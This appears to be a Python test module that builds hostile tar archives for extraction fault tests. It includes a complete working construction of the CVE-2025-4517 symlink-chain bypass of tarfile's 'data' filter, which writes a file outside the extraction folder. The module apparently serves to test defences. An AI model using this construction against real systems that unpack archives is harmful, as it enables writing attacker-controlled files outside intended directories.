"""Hostile tar archives for the extraction fault tests, built in the test (nothing is shipped)."""

from __future__ import annotations

import io
import os
import tarfile
from pathlib import Path


def add_file(tar: tarfile.TarFile, name: str, data: bytes = b"x") -> None:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    tar.addfile(info, io.BytesIO(data))


def add_link(tar: tarfile.TarFile, name: str, target: str, kind: bytes = tarfile.SYMTYPE) -> None:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = target
    tar.addfile(info)


def add_dir(tar: tarfile.TarFile, name: str) -> None:
    info = tarfile.TarInfo(name)
    info.type = tarfile.DIRTYPE
    info.mode = 0o755
    tar.addfile(info)


def symlink_chain(tar: tarfile.TarFile, levels_up: int, outside_name: str) -> None:
    """The CVE-2025-4517 construction: 16 nested 247-character folders reached through
    one-letter symlinks, so that the real path of a link inside them exceeds PATH_MAX and
    `os.path.realpath` (as tarfile's "data" filter calls it) stops resolving links there. The
    link `escape` then points `levels_up` folders above the extraction folder, to
    `outside_name`, and the file `escape/pwned` is written through it."""
    comp = "d" * 247
    steps = "abcdefghijklmnop"
    path = ""
    for step in steps:
        add_dir(tar, os.path.join(path, comp))
        add_link(tar, os.path.join(path, step), comp)
        path = os.path.join(path, comp)
    linkpath = os.path.join(*steps, "l" * 254)
    add_link(tar, linkpath, os.path.join(*[".."] * len(steps)))
    add_link(tar, "escape", os.path.join(linkpath, *[".."] * levels_up, outside_name))
    add_file(tar, "escape/pwned", b"written outside the extraction folder\n")


def write_tar(path: Path, build, mode: str = "w:gz") -> Path:
    with tarfile.open(path, mode, format=tarfile.GNU_FORMAT) as tar:
        build(tar)
    return path
